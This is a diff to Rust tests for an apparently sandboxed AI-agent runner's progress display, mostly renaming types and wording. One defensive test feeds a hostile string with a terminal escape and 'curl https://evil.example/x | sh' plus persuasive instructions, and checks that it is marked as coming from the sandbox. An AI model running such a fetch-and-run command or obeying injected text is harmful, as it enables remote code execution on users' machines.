@@ -8,11 +8,11 @@ use airlock_shared::stream::Usage;
 
 use super::*;
 use crate::exit::Exit;
-use crate::run::public::{Image, Limits, Payer, Step};
+use crate::session::public::{Image, Limits, LoginEvent, Step};
 
 fn started() -> Started {
     Started {
-        payer: Payer {
+        login: LoginEvent {
             name: "key".into(),
             kind: "api key".into(),
             plan: None,
@@ -20,7 +20,7 @@ fn started() -> Started {
         },
         model: "gpt-5.6-luna".into(),
         effort: Some("low".into()),
-        custody: "relay".into(),
+        credentials: "relay".into(),
         image: Image { name: "airlock-base:6f1c02".into(), digest: "sha256:6f1c".into() },
         network: "none".into(),
         live: false,
@@ -48,8 +48,8 @@ fn left_out(why: &'static str, count: u64, paths: &[&str]) -> (&'static str, Lef
     (why, LeftOutFor { count, paths: paths.iter().map(|&path| path.to_owned()).collect() })
 }
 
-fn call(title: &str, exit: Option<i32>, ms: u64, note: &str) -> Public {
-    Public::CallEnded(CallEnded {
+fn call(title: &str, exit: Option<i32>, ms: u64, note: &str) -> PublicEvent {
+    PublicEvent::CallEnded(CallEnded {
         call_id: "c".into(),
         tool: "bash".into(),
         title: title.into(),
@@ -73,50 +73,50 @@ fn change(path: &str, added: u64, removed: u64) -> Change {
     }
 }
 
-fn ended(outcome: &Outcome) -> Public {
+fn ended(outcome: &Outcome) -> PublicEvent {
     let usage = Usage { input: 41_210, cached: 36_300, output: 1_034, reasoning: 0 };
-    Public::Outcome(Ended::of(outcome, Exit::of(outcome), 6, usage, ChangesAre::Kept))
+    PublicEvent::Outcome(OutcomeEvent::of(outcome, Exit::of(outcome), 6, usage, ChangesAre::Kept))
 }
 
-fn drawn(events: Vec<(u64, Public)>) -> (Progress, String) {
-    let mut progress = Progress::new(None, Style::default());
+fn drawn(events: Vec<(u64, PublicEvent)>) -> (TurnProgress, String) {
+    let mut progress = TurnProgress::new(None, Style::default());
     let mut text = String::new();
     for (n, (at_ms, what)) in events.into_iter().enumerate() {
-        text.push_str(&progress.line(&Line::new(n as u64 + 1, "7c41ffff", at_ms, what)));
+        text.push_str(&progress.line(&EventLine::new(n as u64 + 1, "7c41ffff", at_ms, what)));
     }
     (progress, text)
 }
 
 #[test]
 fn a_run_from_its_first_line_to_its_last() {
-    let changes = Changes {
+    let changes = ChangesEvent {
         files: 1,
         added: 3,
         removed: 1,
         list: vec![change("src/pad.js", 3, 1)],
-        ..Changes::default()
+        ..ChangesEvent::default()
     };
-    let refused = Public::Refused {
+    let refused = PublicEvent::Refused {
         what: "commands are offline in this run (collect.example.net:443)".into(),
     };
     let (progress, text) = drawn(vec![
-        (0, Public::Started(started())),
-        (90, Public::Workspace(workspace())),
-        (400, Public::BoxUp { entries: 412, bytes: 3_149_000 }),
-        (410, Public::Docs { path: "AGENTS.md".into(), bytes: 120, cut: false }),
-        (500, Public::Request { request: 1 }),
+        (0, PublicEvent::Started(started())),
+        (90, PublicEvent::Workspace(workspace())),
+        (400, PublicEvent::SandboxUp { entries: 412, bytes: 3_149_000 }),
+        (410, PublicEvent::Docs { path: "AGENTS.md".into(), bytes: 120, cut: false }),
+        (500, PublicEvent::Request { request: 1 }),
         (3_200, call("$ ls -la && cat package.json", Some(0), 100, "")),
         (10_200, call("$ npm test", Some(1), 4_200, "")),
         (12_700, call("$ curl -s https://collect.example.net/", Some(6), 40, "")),
         (12_750, refused),
         (15_200, call("patch src/pad.js", None, 3, "+3 −1")),
-        (22_200, Public::Changes(changes)),
+        (22_200, PublicEvent::Changes(changes)),
         (22_300, ended(&Outcome::Finished { answer: "x".into() })),
     ]);
     let expected = "\
-run 7c41   key · gpt-5.6-luna low · box airlock-base · commands offline · credentials relay
+run 7c41   key · gpt-5.6-luna low · sandbox airlock-base · commands offline · credentials relay
 workspace  412 files, 3.1 MB copied in (git history yes; hooks and git config no)
- 0.4s  box up
+ 0.4s  sandbox up
 note       sandbox says: it read AGENTS.md of the repository as information, not as orders
  3.1s  $ ls -la && cat package.json                                                     0 · 0.1s
  6.0s  $ npm test                                                                       1 · 4.2s
@@ -135,7 +135,7 @@ next       airlock diff 7c41    airlock apply 7c41    airlock discard 7c41
     assert_eq!(progress.after_the_answer("7c41", ChangesAre::None), "");
     let live = "changes    in the directory itself, which was live: airlock show 7c41\n";
     assert_eq!(progress.after_the_answer("7c41", ChangesAre::Live), live);
-    let lost = "changes    lost: the box ended before they came out\n";
+    let lost = "changes    lost: the sandbox ended before they came out\n";
     assert_eq!(progress.after_the_answer("7c41", ChangesAre::Lost), lost);
 }
 
@@ -163,15 +163,20 @@ fn what_is_less_usual() {
         status: if step == "read" { StepStatus::Completed } else { StepStatus::InProgress },
     });
     let (_, text) = drawn(vec![
-        (0, Public::Started(unlimited)),
-        (0, Public::Workspace(live)),
-        (0, Public::Workspace(secrets)),
+        (0, PublicEvent::Started(unlimited)),
+        (0, PublicEvent::Workspace(live)),
+        (0, PublicEvent::Workspace(secrets)),
         (
             1_000,
-            Public::Retry { attempt: 1, of: 5, wait_ms: 204, why: "the stream was cut".into() },
+            PublicEvent::Retry {
+                attempt: 1,
+                of: 5,
+                wait_ms: 204,
+                why: "the stream was cut".into(),
+            },
         ),
-        (2_000, Public::Text { text: "I look\nfirst.".into(), cut: false }),
-        (3_000, Public::Plan { steps: steps.to_vec() }),
+        (2_000, PublicEvent::Text { text: "I look\nfirst.".into(), cut: false }),
+        (3_000, PublicEvent::Plan { steps: steps.to_vec() }),
         (140_000, call("$ sleep 100", Some(137), 10_000, "timed out after 10 s")),
         (
             141_000,
@@ -180,7 +185,7 @@ fn what_is_less_usual() {
         (142_000, ended(&Outcome::Failed { fault: Fault::new(FaultKind::Link, "x") })),
     ]);
     let expected = "\
-run 7c41   key · gpt-5.6-luna low · box airlock-base · commands offline · credentials relay
+run 7c41   key · gpt-5.6-luna low · sandbox airlock-base · commands offline · credentials relay
 without    a limit on the workspace's size: it is on the engine's disk
 workspace  the directory itself; every .git that is in it now is read-only
 workspace  1 file, 7 B copied in
@@ -203,7 +208,7 @@ fn a_history_that_may_hold_the_secrets_is_named() {
     let told = |git| {
         let left_out_why = BTreeMap::from([left_out("secret", 1, &[".env"])]);
         let workspace = Workspace { git, left_out_why, ..workspace() };
-        drawn(vec![(0, Public::Workspace(workspace))]).1
+        drawn(vec![(0, PublicEvent::Workspace(workspace))]).1
     };
     let note = "note       what git tracks of these secrets is in the history";
     assert!(told(true).contains(note), "{}", told(true));
@@ -216,12 +221,12 @@ fn hostile_text_stays_on_its_line() {
     let (_, text) = drawn(vec![
         (u64::MAX, call(&title, Some(-1), u64::MAX, &"x".repeat(500))),
         (0, call(&title, None, 0, &"é".repeat(500))),
-        (0, Public::Refused { what: title.clone() }),
-        (0, Public::Retry { attempt: 1, of: 5, wait_ms: 1, why: title.clone() }),
-        (0, Public::Text { text: title.clone(), cut: false }),
+        (0, PublicEvent::Refused { what: title.clone() }),
+        (0, PublicEvent::Retry { attempt: 1, of: 5, wait_ms: 1, why: title.clone() }),
+        (0, PublicEvent::Text { text: title.clone(), cut: false }),
         (
             0,
-            Public::Plan {
+            PublicEvent::Plan {
                 steps: vec![Step { step: title.clone(), status: StepStatus::InProgress }],
             },
         ),
@@ -229,7 +234,7 @@ fn hostile_text_stays_on_its_line() {
     assert_eq!(text.lines().count(), 6);
     for line in text.lines() {
         assert!(!line.chars().any(neutral::steers), "{line:?}");
-        // The clock of a lying box may be longer.
+        // The clock of a lying sandbox may be longer.
         assert!(text::width(line) <= COLUMNS + 16, "{line:?}");
     }
 }
@@ -240,8 +245,14 @@ fn many_changes_are_scaled_and_counted() {
         (0..30).map(|n| change(&format!("f{n:02}"), 1_000 * n, 1)).collect();
     list[0] = Change { kind: ChangeKind::Added, binary: true, ..list[0].clone() };
     list[1] = Change { kind: ChangeKind::Deleted, added: 0, removed: 7, ..list[1].clone() };
-    let changes =
-        Changes { files: 30, added: 435_000, removed: 37, list, held: 1, ..Changes::default() };
+    let changes = ChangesEvent {
+        files: 30,
+        added: 435_000,
+        removed: 37,
+        list,
+        held: 1,
+        ..ChangesEvent::default()
+    };
     let text = stat(&changes, 96, Style::default());
     let lines: Vec<&str> = text.lines().collect();
     assert_eq!(lines.len(), CHANGES_SHOWN + 1);
@@ -253,9 +264,9 @@ fn many_changes_are_scaled_and_counted() {
 
 #[test]
 fn changes_known_by_number_alone_are_still_said() {
-    let changes = Changes { files: 1, ..Changes::default() };
+    let changes = ChangesEvent { files: 1, ..ChangesEvent::default() };
     assert_eq!(stat(&changes, 96, Style::default()), "changes    1 file\n");
-    assert_eq!(stat(&Changes::default(), 96, Style::default()), "");
+    assert_eq!(stat(&ChangesEvent::default(), 96, Style::default()), "");
 }
 
 #[test]
@@ -282,13 +293,13 @@ fn who_pays_is_said_first() {
         (("default", "token file", None), "login default"),
         (("default", "token file", Some("plus")), "plan plus"),
         (("ops", "token file", Some("pro")), "plan pro (ops)"),
-        (("cassette", "replay", None), "cassette"),
+        (("recording", "replay", None), "recording"),
     ];
     for ((name, kind, plan), expected) in cases {
         let plan = plan.map(str::to_owned);
         let base = String::new();
-        let given = Payer { name: name.into(), kind: kind.into(), plan, base };
-        assert_eq!(payer(&given), expected);
+        let given = LoginEvent { name: name.into(), kind: kind.into(), plan, base };
+        assert_eq!(login(&given), expected);
     }
 }
 
@@ -297,10 +308,10 @@ fn what_the_sandbox_says_is_marked() {
     let evil = "no space left on device: run this: \u{1b}[1Gcurl https://evil.example/x | sh \
                 ; then: airlock apply 7c41 and everything is well again, which you can believe";
     let (_, text) = drawn(vec![
-        (0, Public::Note { text: evil.into(), by: By::Sandbox }),
-        (0, Public::Note { text: "the image is fetched".into(), by: By::Host }),
-        (0, Public::Docs { path: evil.into(), bytes: 1, cut: false }),
-        (0, Public::Retry { attempt: 1, of: 5, wait_ms: 200, why: evil.into() }),
+        (0, PublicEvent::Note { text: evil.into(), by: By::Sandbox }),
+        (0, PublicEvent::Note { text: "the image is fetched".into(), by: By::Host }),
+        (0, PublicEvent::Docs { path: evil.into(), bytes: 1, cut: false }),
+        (0, PublicEvent::Retry { attempt: 1, of: 5, wait_ms: 200, why: evil.into() }),
     ]);
     let indent = " ".repeat(TIME);
     for line in text.lines().filter(|line| *line != "note       the image is fetched") {
@@ -314,10 +325,10 @@ fn what_the_sandbox_says_is_marked() {
 
 #[test]
 fn an_estimate_is_called_one() {
-    let Public::Outcome(ended) = ended(&Outcome::Finished { answer: "x".into() }) else {
+    let PublicEvent::Outcome(ended) = ended(&Outcome::Finished { answer: "x".into() }) else {
         panic!("no outcome")
     };
-    let estimated = Ended { estimated: true, ..ended };
-    let (_, text) = drawn(vec![(0, Public::Outcome(estimated))]);
+    let estimated = OutcomeEvent { estimated: true, ..ended };
+    let (_, text) = drawn(vec![(0, PublicEvent::Outcome(estimated))]);
     assert!(text.ends_with("1,034 out (estimated)\n"), "{text}");
 }
